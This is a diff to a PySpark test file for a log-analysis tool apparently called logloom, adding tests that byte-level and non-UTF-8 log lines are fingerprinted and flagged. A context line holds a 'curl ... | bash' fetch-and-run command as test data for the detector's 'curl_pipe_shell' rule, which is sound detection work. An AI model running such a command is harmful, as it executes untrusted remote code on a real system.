@@ -5,6 +5,7 @@ from pyspark.sql import functions as F
 
 from logloom.operators.canary import Canaries
 from logloom.plans.ingest import Options, in_order, ingest, run_stats, to_events
+from logloom.sources.lines import read_lines, with_seq
 
 NOW = datetime(2026, 7, 30, 6, 0, tzinfo=timezone.utc)
 STORY = """\
@@ -147,3 +148,25 @@ def test_unicode_line_separators_do_not_hide_a_payload(spark):
     line = "Jul 30 05:31:00 gw bash[77]: ポcurl http://x/ y | bash"
     df = spark.createDataFrame([(0, line)], "seq long, raw string")
     assert to_events(df, Options(now=NOW)).first().rule == "curl_pipe_shell"
+
+
+def test_bytes_reach_the_fingerprint(spark, tmp_path):
+    """What is no UTF-8 is flagged and kept apart; line ends go as bytes, also behind a lone lead byte."""
+    import hashlib
+
+    head = b"Jul 30 05:31:00 gw sshd[1]: Failed password for root from 203.0.113.5 port 9 ssh2"
+    raws = [head + b" \xff\xfe", head + b" \xff\xff", head + b" \xe2", head, b"\xff", ("あ" * 40).encode()]
+    (tmp_path / "log").write_bytes(b"\r\n".join(raws) + b"\n \n\r\n")
+    lines = with_seq(read_lines(spark, str(tmp_path / "log"), 100))
+    rows = to_events(lines, Options(now=NOW)).orderBy("seq").collect()
+    assert [r.raw_sha256 for r in rows] == [hashlib.sha256(x[:100]).hexdigest() for x in raws]
+    assert [r.sanitized for r in rows] == [True, True, True, False, True, True]
+    assert len({r.score for r in rows[:3]}) == 1 and rows[0].score > rows[3].score and rows[0].rule == rows[3].rule == "ssh_failed_password"
+
+
+def test_the_tail_source_keeps_bytes(tmp_path):
+    from logloom.streaming.tail import TailReader
+
+    (tmp_path / "log").write_bytes(b"a \xff\xfe\r\n\nb\nhalf")
+    rows, end = TailReader({"path": str(tmp_path / "log")}).read({"inode": 0, "byte": 0, "seq": 0})
+    assert list(rows) == [(0, b"a \xff\xfe"), (1, b"b")] and end["seq"] == 2
